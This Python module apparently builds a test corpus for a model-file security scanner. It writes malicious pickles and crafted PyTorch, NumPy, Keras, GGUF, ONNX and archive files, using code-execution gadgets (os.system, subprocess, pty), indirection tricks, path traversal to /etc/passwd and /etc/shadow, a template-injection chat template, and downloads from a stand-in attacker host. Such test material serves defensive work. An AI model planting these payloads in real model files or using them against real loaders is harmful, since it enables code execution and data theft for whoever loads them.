"""Builders for the test corpus. Malicious pickles are only *dumped* (or written by opcode), never loaded."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from typing import Any


class Reduce:
    """An object whose pickle calls ``func(*args)`` when loaded (we never load it)."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def evil(protocol: int = 4) -> bytes:
    return pickle.dumps(Reduce(os.system, "echo pwned"), protocol=protocol)


# --- opcode helpers --------------------------------------------------------------------------------


def su(s: str) -> bytes:  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s: str) -> bytes:  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob(module: str, name: str) -> bytes:  # GLOBAL (text)
    return f"c{module}\n{name}\n".encode()


def call0(module: str, name: str, arg: str) -> bytes:
    """Protocol 0: ``module.name(arg)``."""
    return glob(module, name) + f"(S'{arg}'\ntR.".encode()


def call4(module: str, name: str, arg: str) -> bytes:
    """Protocol 4 with STACK_GLOBAL."""
    return b"\x80\x04" + su(module) + su(name) + b"\x93" + su(arg) + b"\x85R."


def stack_global_from_memo(module: str, name: str, arg: str) -> bytes:
    """Module and name strings are memoized first, popped, and fetched back with BINGET before STACK_GLOBAL."""
    return (
        b"\x80\x04"
        + su("innocent") + b"\x94" + b"0"  # memo 0 (decoy)
        + su(module) + b"\x94" + b"0"  # memo 1
        + su(name) + b"\x94" + b"0"  # memo 2
        + b"h\x01h\x02\x93" + su(arg) + b"\x85R."
    )


def getattr_chain() -> bytes:
    """builtins.getattr(builtins.__import__('os'), 'system')('id')."""
    return (
        b"\x80\x02" + glob("builtins", "getattr") + b"(" + glob("builtins", "__import__") + b"(S'os'\ntR"
        + b"S'system'\ntR(S'id'\ntR."
    )


def call_of_call_result() -> bytes:
    """Only allowlisted globals, but the result of a call is called again (a gadget chain)."""
    return b"\x80\x02" + glob("collections", "OrderedDict") + b")R(S'id'\ntR."


def inst() -> bytes:
    return b"(S'echo pwned'\nios\nsystem\n."


def obj() -> bytes:
    return b"\x80\x02(" + glob("os", "system") + b"S'id'\no."


def newobj() -> bytes:
    return b"\x80\x02" + glob("subprocess", "Popen") + b"(S'id'\nt\x81."


def nested_loads() -> bytes:
    inner = evil(2)
    return b"\x80\x02" + glob("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R."


def nested_in_data() -> bytes:
    return pickle.dumps({"blob": evil(4), "x": 1}, protocol=4)


def ext_opcode() -> bytes:
    return b"\x80\x02\x82\x07(S'id'\ntR."


def build_on_global() -> bytes:
    """Overwrite attributes of an allowlisted module object (ShadowPickle-style)."""
    return b"\x80\x02" + glob("torch", "FloatStorage") + b"}S'__reduce__'\nK\x01sb."


def dotted_walk() -> bytes:
    return call4("torch", "_utils.os.system", "id")


def py2_builtin() -> bytes:
    return call0("__builtin__", "eval", "1")


def dynamic_stack_global() -> bytes:
    """The module name of STACK_GLOBAL is the *result of a call*."""
    return b"\x80\x04" + glob("collections", "OrderedDict") + b")R" + su("system") + b"\x93" + su("id") + b"\x85R."


# --- benign ------------------------------------------------------------------------------------------


def benign_objects() -> list[Any]:
    return [
        {"a": [1, 2.5, "x", b"bytes", None, True], "n": {"deep": (1, 2)}},
        [i * 1.5 for i in range(100)],
        OrderedDict([("layer.weight", [0.1, 0.2]), ("layer.bias", [0.0])]),
        {1, 2, 3},
        frozenset({"a"}),
        bytearray(b"abc"),
        2**100,
        "ünïcode",
    ]


def torch_like_data_pkl(malicious: bool = False) -> bytes:
    """A state-dict pickle shaped as torch writes it (protocol 2, persistent ids for storages)."""
    tensor = (
        glob("torch._utils", "_rebuild_tensor_v2")
        + b"((" + bu("storage") + glob("torch", "FloatStorage") + bu("0") + bu("cpu") + b"K\x04tQ"
        + b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89" + glob("collections", "OrderedDict") + b")RtR"
    )
    body = b"\x80\x02" + glob("collections", "OrderedDict") + b"q\x00)Rq\x01" + bu("weight") + tensor + b"s"
    if malicious:
        body += bu("x") + glob("posix", "system") + b"(S'id'\ntRs"
    return body + b"."


def torch_weights_only_corruption(kind: str) -> bytes:
    """CVE-2026-24747 (torch < 2.10 ``weights_only``): a storage declaring more elements than its member
    holds, or SETITEMS applied to a tensor."""
    good = torch_like_data_pkl()
    if kind == "storage":
        return good.replace(bu("cpu") + b"K\x04tQ", bu("cpu") + b"J\x00\x00\x00\x10tQ")  # 2**28 floats, 16 bytes
    tensor_end = good.index(b")RtR") + 4
    return good[:tensor_end] + b"(" + bu("k") + b"K\x01u" + good[tensor_end:]


def torch_zip(data_pkl: bytes, root: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{root}/data.pkl", data_pkl)
        z.writestr(f"{root}/byteorder", b"little")
        z.writestr(f"{root}/data/0", struct.pack("<4f", 1, 2, 3, 4))
        z.writestr(f"{root}/version", b"3\n")
        z.writestr(f"{root}/.data/serialization_id", b"1234")
    return buf.getvalue()


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def safetensors(tensors: dict[str, tuple[str, list[int], bytes]], header_extra: dict[str, Any] | None = None) -> bytes:
    header: dict[str, Any] = {"__metadata__": {"format": "pt"}}
    data = b""
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    header.update(header_extra or {})
    h = json.dumps(header).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + data


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def tar_of(members: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
        for name, target in (links or {}).items():
            ti = tarfile.TarInfo(name)
            ti.type = tarfile.SYMTYPE
            ti.linkname = target
            t.addfile(ti)
    return buf.getvalue()


def gguf(kv: dict[str, Any], version: int = 3) -> bytes:
    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    out = b"GGUF" + struct.pack("<IQQ", version, 0, len(kv))
    for k, v in kv.items():
        out += s(k)
        if isinstance(v, str):
            out += struct.pack("<I", 8) + s(v)
        elif isinstance(v, list):
            out += struct.pack("<IIQ", 9, 8, len(v)) + b"".join(s(x) for x in v)
        elif isinstance(v, float):
            out += struct.pack("<If", 6, v)
        else:
            out += struct.pack("<IQ", 10, v)
    return out


def _pb_varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def _pb(num: int, payload: bytes | int) -> bytes:
    if isinstance(payload, int):
        return _pb_varint(num << 3) + _pb_varint(payload)
    return _pb_varint(num << 3 | 2) + _pb_varint(len(payload)) + payload


def onnx_model(locations: list[str], in_subgraph: bool = False) -> bytes:
    """A minimal ModelProto: graph with initializers whose data is external (or inline when no location)."""
    tensors = b""
    for loc in locations:
        ext = _pb(13, _pb(1, b"location") + _pb(2, loc.encode())) + _pb(14, 1)
        tensors += _pb(5, _pb(8, b"w") + _pb(2, 1) + ext)
    inline = _pb(5, _pb(8, b"b") + _pb(2, 1) + _pb(9, b"\x00" * 16))
    graph = _pb(2, b"g") + inline + (b"" if in_subgraph else tensors)
    if in_subgraph:
        sub = _pb(2, b"body") + tensors
        graph += _pb(1, _pb(4, b"If") + _pb(5, _pb(1, b"then_branch") + _pb(6, sub)))
    return _pb(1, 8) + _pb(2, b"pytorch") + _pb(7, graph) + _pb(8, _pb(2, 17))


# --- the whole corpus (tests and benchmarks/bench_supply.py) -------------------------------------------


def legacy_torch(data_pkl: bytes) -> bytes:
    """torch.save(..., _use_new_zipfile_serialization=False): magic, version, sys info, data, storage keys, storages."""
    return (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=2)
            + data_pkl + pickle.dumps(["0"], protocol=2) + struct.pack("<Q", 4) + struct.pack("<4f", 1, 2, 3, 4))


def renamed_local_header(data: bytes, old: bytes, new: bytes) -> bytes:
    """A zip whose local header names a member differently from the central directory (loaders disagree)."""
    assert len(old) == len(new)
    at = data.find(b"PK\x03\x04")
    i = data.find(old, at)
    return data[:i] + new + data[i + len(old):]


def keras_zip(config: dict[str, Any]) -> bytes:
    return zip_of({"metadata.json": json.dumps({"keras_version": "3.15.1"}).encode(),
                   "config.json": json.dumps(config).encode()})


def keras_layer(module: str | None, cls: str, config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def keras_model(*layers: dict[str, Any]) -> dict[str, Any]:
    return keras_layer("keras", "Sequential", {"name": "s", "layers": [
        keras_layer("keras.layers", "InputLayer", {"batch_shape": [None, 4]}), *layers]})


# Keras 3 Lambda as Keras writes it: base64 of marshalled bytecode (the payload bytes are arbitrary here)
KERAS3_LAMBDA = keras_layer("keras.layers", "Lambda", {"name": "l", "arguments": {}, "function": {
    "class_name": "__lambda__",
    "config": {"code": "4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwAp", "defaults": None, "closure": None}}})
# Keras 2 (.h5): the layer config holds the marshalled code itself
KERAS2_LAMBDA = {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAAAAAAAAIAAAAD", None, None],
                                                    "function_type": "lambda", "module": "keras.layers.core",
                                                    "output_shape": None, "arguments": {}}}


def h5_with_config(path: Any, config: str, userblock: int = 0) -> None:
    """A Keras-style .h5 (root attributes model_config, keras_version, backend) written by h5py."""
    import h5py  # only writes attributes; nothing is loaded

    kw = {"userblock_size": userblock} if userblock else {}
    with h5py.File(path, "w", **kw) as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = config
        f.create_group("model_weights")


def malicious_bytes() -> dict[str, bytes]:
    """Every technique as a file body (name → bytes); names and extensions are part of the tricks."""
    out: dict[str, bytes] = {f"reduce_protocol{p}.pkl": evil(p) for p in range(6)}
    out.update({
        # globals: code execution, imports, attribute access, nested deserialization, files, network
        "os_system_proto0.pkl": call0("os", "system", "id"),
        "posix_system_stack_global.pkl": call4("posix", "system", "id"),
        "subprocess_check_output.pkl": call0("subprocess", "check_output", "id"),
        "pip_main.pkl": call4("pip", "main", "install"),  # CVE-2025-1716 (picklescan)
        "pip_internal_main.pkl": call0("pip._internal", "main", "install"),
        "runpy_run_code.pkl": call0("runpy", "_run_code", "import os"),
        "pkgutil_resolve_name.pkl": call0("pkgutil", "resolve_name", "os:system"),  # GHSA-vvpj-8cmc-gx39
        "importlib_import_module.pkl": call0("importlib", "import_module", "os"),
        "copyreg_add_extension.pkl": call0("copyreg", "add_extension", "x"),
        "torch_collect_env_run.pkl": call0("torch.utils.collect_env", "run", "id"),  # modelscan #338
        "mailcap_findmatch.pkl": call0("mailcap", "findmatch", "x"),  # modelscan #346
        "pty_spawn.pkl": call0("pty", "spawn", "sh"),  # fickling #108
        "asyncio_subprocess.pkl": call0("asyncio.unix_events", "_UnixSubprocessTransport", "x"),
        "uuid_get_command_stdout.pkl": call0("uuid", "_get_command_stdout", "id"),
        "pandas_read_csv_exfil.pkl": call0("pandas", "read_csv", "http://attacker/x"),  # modelscan #338
        "torch_load_nested.pkl": call0("torch.serialization", "load", "x"),
        "marshal_loads.pkl": call0("marshal", "loads", "x"),
        "ctypes_cdll.pkl": call0("ctypes", "CDLL", "x"),
        "builtins_exec.pkl": call0("builtins", "exec", "x"),
        "py2_builtin_eval.pkl": py2_builtin(),
        "socket_connect.pkl": call0("socket", "create_connection", "x"),
        "unknown_package.pkl": call0("evilpkg.payload", "run", "x"),  # allowlist-first: no denylist entry needed
        # indirection
        "stack_global_from_memo.pkl": stack_global_from_memo("os", "system", "id"),
        "getattr_import_chain.pkl": getattr_chain(),
        "call_of_call_result.pkl": call_of_call_result(),
        "dynamic_stack_global.pkl": dynamic_stack_global(),
        "dotted_attribute_walk.pkl": dotted_walk(),
        "numpy_builtins_walk.pkl": call4("numpy", "__builtins__.eval", "1"),  # modelscan #330
        "build_on_allowed_global.pkl": build_on_global(),  # ShadowPickle-style module overwrite
        "ext_opcode.pkl": ext_opcode(),
        "inst_opcode.pkl": inst(),
        "obj_opcode.pkl": obj(),
        "newobj_opcode.pkl": newobj(),
        "evil_then_garbage.pkl": evil(2)[:-1] + b"\xff\xfe",  # REDUCE runs before the loader hits the garbage
        # nested pickles
        "nested_pickle_loads.pkl": nested_loads(),  # modelscan #267
        "nested_pickle_in_bytes.pkl": nested_in_data(),
        # PyTorch
        "torch_zip.pt": torch_zip(torch_like_data_pkl(True)),
        "torch_zip_misnamed.txt": torch_zip(torch_like_data_pkl(True)),  # CVE-2025-10155 (extension)
        "TORCH_ZIP_UPPER.PTH": torch_zip(torch_like_data_pkl(True)),
        "pytorch_model.bin": evil(2),  # a raw pickle under a zip checkpoint's usual name
        "torch_zip_other_root.pt": torch_zip(torch_like_data_pkl(True), root="weights_v2"),
        "torch_zip_extra_member.pt": zip_of({"archive/data.pkl": torch_like_data_pkl(), "archive/EXTRA.PKL": evil(2)}),
        "torch_storage_larger_than_member.pt": torch_zip(torch_weights_only_corruption("storage")),
        "torch_setitems_on_tensor.pt": torch_zip(torch_weights_only_corruption("setitems")),
        "torch_legacy.pt": legacy_torch(torch_like_data_pkl(True)),
        "torch_legacy_protocol0_data.pt": legacy_torch(call0("os", "system", "id")),
        "torch_legacy.tar": tar_of({"sys_info": pickle.dumps({}, protocol=2), "pickle": evil(2)}),
        "polyglot_pickle_then_zip.pt": evil(2) + zip_of({"archive/data.pkl": torch_like_data_pkl()}),
        "polyglot_benign_pickle_evil_zip.pt": pickle.dumps({"a": 1}, 2) + torch_zip(torch_like_data_pkl(True)),
        # zip entry tricks
        "zip_duplicate_member.pt": _duplicate_zip(),
        "zip_local_name_mismatch.pt": renamed_local_header(torch_zip(torch_like_data_pkl(True)), b"archive/data.pkl",
                                                           b"archive/data.txt"),
        "zip_prepended_junk.zip": b"MZ" + b"\x00" * 510 + zip_of({"m/data.pkl": evil(2)}),
        "zip_deflated_data_pkl.pt": zip_of({"archive/data.pkl": torch_like_data_pkl(True)}, zipfile.ZIP_DEFLATED),
        "zip_path_traversal.zip": zip_of({"../../x.pkl": evil(2)}),
        "zip_gzip_member.zip": zip_of({"weights/extra.gz": _gzip(evil(2)), "tok/vocab.txt": b"xa b c"}),
        "zip_nested_three_deep.zip": zip_of({"a.zip": zip_of({"b.zip": zip_of({"m.pkl": evil(2)})})}),
        "tar_symlink_escape.tar": tar_of({"ok.txt": b"x"}, {"weights.bin": "/etc/passwd"}),
        "tar_gz_evil.tar.gz": _gzip(tar_of({"archive/data.pkl": evil(2)})),
        # NumPy
        "npy_object_payload.npy": npy_object(evil(2)),
        "npy_object_misnamed.dat": npy_object(call4("posix", "system", "id")),
        "npz_object_member.npz": zip_of({"a.npy": npy_object(evil(3))}, zipfile.ZIP_DEFLATED),
        "npz_member_without_extension.npz": zip_of({"a.npy": npy_object(pickle.dumps([1])), "b": npy_object(evil(3))}),
        # Keras 3 (.keras)
        "keras_lambda_bytecode.keras": keras_zip(keras_model(KERAS3_LAMBDA)),
        "keras_enable_unsafe_deserialization.keras": keras_zip(keras_model(  # CVE-2025-9906
            keras_layer("keras.config", "function", "enable_unsafe_deserialization"), KERAS3_LAMBDA)),
        "keras_get_file_gadget.keras": keras_zip(keras_model(  # CVE-2025-8747
            keras_layer("keras.utils", "get_file", {"origin": "http://attacker/x.tar.gz", "extract": True}))),
        "keras_arbitrary_module.keras": keras_zip(keras_model(keras_layer("os", "system", "id"))),  # CVE-2025-1550
        "keras_vocabulary_file_read.keras": keras_zip(keras_model(  # CVE-2025-12058
            keras_layer("keras.layers", "StringLookup", {"vocabulary": "/etc/passwd"}))),
        # GGUF, ONNX, safetensors
        "gguf_chat_template_ssti.gguf": gguf({"general.architecture": "llama", "tokenizer.chat_template":
                                              "{{ self.__init__.__globals__.__builtins__.__import__('os')"
                                              ".popen('id').read() }}"}),
        "onnx_external_data_escape.onnx": onnx_model(["../../etc/passwd"]),
        "onnx_external_data_absolute.onnx": onnx_model(["/etc/shadow"], in_subgraph=True),
        "safetensors_overlap.safetensors": safetensors({"w": ("F32", [2], b"\x00" * 8)}, {"v": {
            "dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}),
        "safetensors_header_bomb.safetensors": struct.pack("<Q", 200_000_000) + b"{}",
        # compressed joblib-style streams of a malicious pickle
        "gzip_pickle.joblib": _gzip(evil(2)),
        "xz_pickle.joblib": _xz(evil(2)),
    })
    return out


def _duplicate_zip() -> bytes:
    import warnings

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name" is the point
        z.writestr("archive/data.pkl", torch_like_data_pkl())
        z.writestr("archive/data.pkl", evil(2))
    return buf.getvalue()


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def _xz(data: bytes) -> bytes:
    import lzma

    return lzma.compress(data)


def write_malicious(d: Any) -> tuple[list[Any], list[str]]:
    """Write the malicious corpus into folder ``d``; files needing a missing library are listed as skipped."""
    from pathlib import Path

    d = Path(d)
    d.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in malicious_bytes().items():
        (d / name).write_bytes(data)
        paths.append(d / name)
    skipped: list[str] = []
    try:
        import joblib
        import numpy as np
    except ImportError:
        skipped.append("joblib files (needs numpy, joblib)")
    else:
        payload = [np.arange(7.0), Reduce(os.system, "echo pwned")]
        joblib.dump(payload, d / "joblib_payload_after_array.joblib")
        joblib.dump(payload, d / "joblib_payload_zlib.joblib", compress=3)
        paths += [d / "joblib_payload_after_array.joblib", d / "joblib_payload_zlib.joblib"]
        try:
            joblib.dump(payload, d / "joblib_payload_lz4.joblib", compress="lz4")
            paths.append(d / "joblib_payload_lz4.joblib")
        except (ImportError, ValueError):
            skipped.append("lz4 joblib (needs lz4)")
    try:
        import h5py  # noqa: F401
    except ImportError:
        skipped.append("Keras .h5 files (needs h5py)")
    else:
        lam2 = json.dumps({"class_name": "Sequential", "config": {"layers": [KERAS2_LAMBDA]}})
        h5_with_config(d / "keras2_lambda_bytecode.h5", lam2)
        # spelled with JSON escapes and other spacing: a byte search for "Lambda" finds nothing
        escaped = lam2.replace('"Lambda"', '"\\u004cambda"').replace('"class_name": ', '"class_name" :')
        h5_with_config(d / "keras2_lambda_escaped.h5", escaped)
        h5_with_config(d / "keras_h5_after_user_block.h5", lam2, userblock=512)
        h5_with_config(d / "keras_h5_arbitrary_module.h5", json.dumps(keras_model(keras_layer("subprocess", "Popen",
                                                                                              ["id"]))))
        h5_with_config(d / "keras_h5_misnamed.weights", lam2)
        paths += [d / n for n in ("keras2_lambda_bytecode.h5", "keras2_lambda_escaped.h5",
                                  "keras_h5_after_user_block.h5", "keras_h5_arbitrary_module.h5",
                                  "keras_h5_misnamed.weights")]
    return sorted(paths), skipped


def benign_bytes() -> dict[str, bytes]:
    """Hand-built benign files (the framework-written ones come from tests/supply/_frameworks.py)."""
    out = {f"plain_object{i}_p{p}.pkl": pickle.dumps(o, protocol=p) for i, o in enumerate(benign_objects())
           for p in (0, 2, 4, 5)}
    out.update({
        "torch_like_state_dict.pt": torch_zip(torch_like_data_pkl()),
        "torch_like_legacy.pt": legacy_torch(torch_like_data_pkl()),
        "safetensors_hand.safetensors": safetensors({"w": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4))}),
        "gguf_llama.gguf": gguf({"general.architecture": "llama", "tokenizer.ggml.tokens": ["a", "b"],
                                 "llama.context_length": 4096, "tokenizer.chat_template":
                                 "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"}),
        "onnx_external_weights.onnx": onnx_model(["weights.bin", "sub/./w2.bin"]),
        "keras_dense.keras": keras_zip(keras_model(keras_layer("keras.layers", "Dense", {"units": 3,
                                                                                          "activation": "relu"}))),
        "README.md": b"# model card\n\nA text file next to the weights.\n",
        "config.json": b'{"hidden_size": 8, "architectures": ["LlamaForCausalLM"]}',
    })
    return out
